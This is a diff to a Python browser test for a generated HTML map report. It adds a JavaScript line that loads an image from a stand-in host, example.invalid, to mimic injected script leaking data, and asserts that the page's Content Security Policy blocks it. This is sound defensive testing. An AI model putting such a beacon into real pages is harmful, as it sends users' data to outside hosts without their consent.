@@ -89,6 +89,9 @@ def test_odd_names_show_as_text_and_leave_the_map_its_width(day_run: Path, tmp_p
         (copy / "report.html").as_uri(),
         ready=READY,
         expressions={
+            # What a script slipped into the page would do to send the data away: the
+            # page's policy lets it load nothing but the map tiles.
+            "leak": "(new Image()).src = 'https://example.invalid/leak.png'",
             "legend": "[...document.querySelectorAll('#map .legendtext')].map(e => e.textContent)",
             "links": "document.querySelectorAll('a').length",
             "plot": f"+{_MAP}.querySelector('.nsewdrag').getAttribute('width')",
@@ -100,4 +103,7 @@ def test_odd_names_show_as_text_and_leave_the_map_its_width(day_run: Path, tmp_p
     assert run.values["links"] == 0
     assert run.values["plot"] > 400  # the legend left the map its width
     assert run.values["page"] <= 0  # the long title wraps
-    assert _offline_errors(run.errors) == []
+    blocked = [e for e in run.errors if "example.invalid" in e["text"]]
+    assert blocked and all(e["source"] == "security" for e in blocked), run.errors
+    assert "Content Security Policy" in blocked[0]["text"]
+    assert [e for e in _offline_errors(run.errors) if e not in blocked] == []
